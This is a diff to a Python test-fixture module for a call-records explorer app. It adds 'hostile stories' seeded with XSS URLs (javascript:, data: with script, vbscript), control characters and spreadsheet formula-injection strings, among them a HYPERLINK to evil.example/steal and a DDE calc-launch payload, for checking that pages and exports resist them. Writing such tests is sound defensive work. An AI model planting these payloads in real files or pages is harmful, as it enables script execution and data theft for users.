@@ -2,25 +2,30 @@
 
 The stories below are written so that every feature of the explorer has something to show: two years of
 calls with a quiet summer, undated calls, a video call someone else joined, two readouts that disagree,
-a call whose permalink changed when a later report dated it, and an article carrying hostile HTML.
+a call whose permalink changed when a later report dated it, and an article carrying hostile HTML. The
+hostile stories add what no page expects; `build_many_calls` writes thousands of calls as rows, for load.
 """
 
 from __future__ import annotations
 
+import os
 import socket
-from calendar import day_name
+import subprocess
+import sys
 import threading
 import time
+from calendar import day_name
 from collections.abc import Iterator
 from dataclasses import dataclass
-from datetime import date, timedelta
+from datetime import date, datetime, timedelta, timezone
 from pathlib import Path
 
+import httpx
 import pytest
 import uvicorn
 from fastapi import FastAPI
 from fastapi.testclient import TestClient
-from sqlalchemy import Engine
+from sqlalchemy import Engine, insert
 from sqlmodel import Session
 
 from app.db import get_session, make_engine, upgrade
@@ -28,6 +33,7 @@ from app.ingest.sentences import split_sentences
 from app.ingest.store import ingest_articles
 from app.ingest.types import Article, CallDraft, DatePrecision, DateResolution, LeaderRef, PositionDraft, Sentence
 from app.main import create_app
+from app.models import Call, CallParticipant, CallSource, CallTopic, Evidence, Leader, Position, Source, Topic
 
 PEOPLE = {ref.slug: ref for ref in [
     LeaderRef("joe-biden", "Joe Biden", "President", "United States"),
@@ -83,10 +89,11 @@ class Story:
     duration: tuple[int, str] | None = None
     outlet: str = "Wire Service"
     title: str | None = None
+    url: str | None = None
 
     def article(self) -> Article:
         return Article(origin=self.origin, text="\n".join(line.text for line in self.lines), title=self.title,
-                       outlet=self.outlet, published=self.published or self.day)
+                       outlet=self.outlet, url=self.url, published=self.published or self.day)
 
     def draft(self, article: Article) -> CallDraft:
         sentences = split_sentences(article.text)
@@ -213,6 +220,44 @@ MOVED_SLUG = "undated-emmanuel-macron-rishi-sunak"
 CURRENT_SLUG = "2024-06-13-emmanuel-macron-rishi-sunak"
 
 
+# Stored data no page may trip over: dates an article can carry but no calendar strip can draw, control
+# characters, spreadsheet formulas and addresses that would run script if they were made links.
+CONTROL = "\x00\x01\x08\x0b\x0c\x1b\x7f\ufffe"
+FAR_FUTURE, FAR_PAST = date(9999, 12, 31), date(1, 1, 1)
+UNSAFE_URLS = ["javascript:alert(document.domain)", " JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>",
+               "vbscript:msgbox(1)"]
+
+
+def hostile_stories() -> list[Story]:
+    macron, scholz, biden, sunak = "emmanuel-macron", "olaf-scholz", "joe-biden", "rishi-sunak"
+    stories = [
+        Story("far-future.txt", (macron, scholz), FAR_FUTURE, [
+            Line("President Macron spoke with Chancellor Scholz on Friday about the year ten thousand."),
+            Line("They discussed energy supplies ahead of the winter.", "energy"),
+        ], title="A call at the end of time", outlet="Typo Times"),
+        Story("far-past.txt", (biden, sunak), FAR_PAST, [
+            Line("President Biden spoke with Prime Minister Sunak on Monday in the year one."),
+        ], title="A call at the start of time", outlet="Typo Times"),
+        Story("just-before.txt", (biden, scholz), date(1899, 12, 31), [
+            Line("President Biden spoke with Chancellor Scholz on Sunday, the last day of 1899."),
+        ], title="A call before the strip begins", outlet="Typo Times"),
+        Story("-formula.txt", (biden, sunak), date(2024, 7, 1), [
+            Line('=HYPERLINK("http://evil.example/steal","Open") President Biden called Prime Minister Sunak '
+                 "on Monday."),
+            Line("They discussed trade ties and tariffs on steel.", "trade"),
+        ], title="@SUM(1+1)*cmd|' /C calc'!A0", outlet="+Formula Daily", url="https://news.example/formula"),
+        Story("control.txt", (macron, sunak), date(2024, 7, 2), [
+            Line(f"President Macron{CONTROL} spoke with Prime Minister Sunak on Tuesday about aid."),
+            Line(f"They discussed the delivery of humanitarian aid to civilians{CONTROL}.", "humanitarian-aid"),
+        ], title=f"Control{CONTROL} characters", outlet=f"Odd{CONTROL} Bytes"),
+    ]
+    for n, url in enumerate(UNSAFE_URLS):
+        stories.append(Story(f"unsafe-url-{n}.txt", (biden, macron), date(2024, 7, 8 + n), [
+            Line(f"President Biden spoke with President Macron on {day_name[date(2024, 7, 8 + n).weekday()]}."),
+        ], title=f"Unsafe address {n}", outlet="Link Farm", url=url))
+    return stories
+
+
 def _extractor(stories: list[Story]):  # noqa: ANN202 - the Extractor callable
     by_origin = {story.origin: story for story in stories}
     return lambda article: [by_origin[article.origin].draft(article)]
@@ -227,6 +272,59 @@ def build_database(path: Path) -> Engine:
         ingest_articles(session, [s.article() for s in first], extractor=_extractor(first), version="t",
                         topics=TOPICS)
         ingest_articles(session, [LATER_STORY.article()], extractor=_extractor([LATER_STORY]), version="t")
+    return engine
+
+
+def build_hostile_database(path: Path) -> Engine:
+    """The explorer's database with the hostile stories added."""
+    engine = build_database(path)
+    extra = hostile_stories()
+    with Session(engine) as session:
+        ingest_articles(session, [s.article() for s in extra], extractor=_extractor(extra), version="t", topics=TOPICS)
+    return engine
+
+
+def build_many_calls(path: Path, count: int = 3000) -> Engine:
+    """A database of `count` calls, one a day back from the end of 2024 over every pair of six leaders, written
+    as rows (the full-text index follows by its triggers): a second or so, for measuring exports under load."""
+    engine = make_engine(f"sqlite:///{path}")
+    upgrade(engine)
+    leaders = [ref for ref in PEOPLE.values() if ref.is_leader]
+    pairs = [(a, b) for i, a in enumerate(leaders) for b in leaders[i + 1:]]
+    rows: dict[type, list[dict]] = {model: [] for model in (Leader, Topic, Source, Call, CallParticipant, CallTopic,
+                                                             CallSource, Position, Evidence)}
+    rows[Leader] = [{"id": r.slug, "name": r.name, "office": r.office, "country": r.country, "is_head": r.is_leader}
+                    for r in PEOPLE.values()]
+    rows[Topic] = [{"slug": slug, "label": label, "description": text} for slug, label, text in TOPICS]
+    for n in range(count):
+        a, b = pairs[n % len(pairs)]
+        day = date(2024, 12, 31) - timedelta(days=n)
+        topic = TOPICS[n % len(TOPICS)][0]
+        first = (f"{a.office} {a.name.split()[-1]} spoke by phone with {b.office} {b.name.split()[-1]} on "
+                 f"{day_name[day.weekday()]}, call number {n}.")
+        said = f"{a.name.split()[-1]} said {TOPIC_PHRASES.get(topic, 'the offensive on Rafah')} remained a priority."
+        text, source_id, call_id = f"{first}\n{said}", f"many{n:05d}", n + 1
+        rows[Source].append({"id": source_id, "origin": f"many-{n:05d}.txt", "title": f"Call number {n}",
+                             "outlet": "Wire Service", "url": f"https://news.example/{n}", "published": day,
+                             "published_basis": "manifest", "text": text, "content_hash": source_id,
+                             "ingested_at": datetime(2025, 1, 1, tzinfo=timezone.utc)})
+        rows[Call].append({"id": call_id, "slug": f"{day}-{a.slug}-{b.slug}", "kind": "call",
+                           "pair_key": f"{a.slug}+{b.slug}", "date": day, "date_precision": "day",
+                           "date_earliest": day, "date_latest": day, "date_basis": f"explicit date {day}",
+                           "weekday": day.weekday(), "sort_date": day, "summary": first, "passing": False,
+                           "updated_at": datetime(2025, 1, 1, tzinfo=timezone.utc)})
+        rows[CallParticipant] += [{"call_id": call_id, "leader_id": ref.slug, "role": "participant"} for ref in (a, b)]
+        rows[CallTopic].append({"call_id": call_id, "topic_slug": topic})
+        rows[CallSource].append({"call_id": call_id, "source_id": source_id, "date_basis": f"explicit date {day}",
+                                 "passing": False, "merge_reason": ""})
+        span = {"source_id": source_id, "start": len(first) + 1, "end": len(text)}
+        rows[Position].append({"call_id": call_id, "leader_id": a.slug, "topic_slug": topic, "stance": "urges",
+                               "text": said, **span})
+        rows[Evidence].append({"call_id": call_id, "topic_slug": topic, **span})
+    with Session(engine) as session:
+        for model, values in rows.items():
+            session.execute(insert(model), values)
+        session.commit()
     return engine
 
 
@@ -265,6 +363,53 @@ class LiveServer:
     def __exit__(self, *_: object) -> None:
         self.server.should_exit = True
         self.thread.join(timeout=10)
+
+
+class ServerProcess:
+    """`uvicorn --factory app.main:create_app` over a database file, in its own process on a free loopback port,
+    so its memory can be measured apart from its clients'."""
+
+    def __init__(self, database: Path, **environment: str) -> None:
+        with socket.socket() as probe:
+            probe.bind(("127.0.0.1", 0))
+            self.port = probe.getsockname()[1]
+        self.url = f"http://127.0.0.1:{self.port}"
+        self.environment = {**os.environ, "DATABASE_URL": f"sqlite:///{database}",
+                            "PYTHONPATH": str(Path(__file__).resolve().parent.parent), **environment}
+        self.process: subprocess.Popen | None = None
+
+    def __enter__(self) -> "ServerProcess":
+        self.process = subprocess.Popen([sys.executable, "-m", "uvicorn", "--factory", "app.main:create_app",
+                                         "--host", "127.0.0.1", "--port", str(self.port), "--log-level", "warning"],
+                                        env=self.environment)
+        deadline = time.monotonic() + 30
+        while time.monotonic() < deadline and self.process.poll() is None:
+            try:
+                if httpx.get(f"{self.url}/api/openapi.json", timeout=2).status_code == 200:
+                    return self
+            except httpx.TransportError:
+                time.sleep(0.1)
+        self.__exit__()
+        raise RuntimeError(f"the server did not start on port {self.port}")
+
+    def __exit__(self, *_: object) -> None:
+        if self.process and self.process.poll() is None:
+            self.process.terminate()
+            try:
+                self.process.wait(timeout=10)
+            except subprocess.TimeoutExpired:
+                self.process.kill()
+                self.process.wait(timeout=10)
+
+    def memory(self) -> dict[str, int]:
+        """VmRSS (now) and VmHWM (the peak so far) of the server, in kB, from Linux's /proc."""
+        assert self.process
+        fields = {}
+        for line in Path(f"/proc/{self.process.pid}/status").read_text().splitlines():
+            key, _, value = line.partition(":")
+            if key in ("VmRSS", "VmHWM"):
+                fields[key] = int(value.split()[0])
+        return fields
 
 
 @pytest.fixture(scope="session")
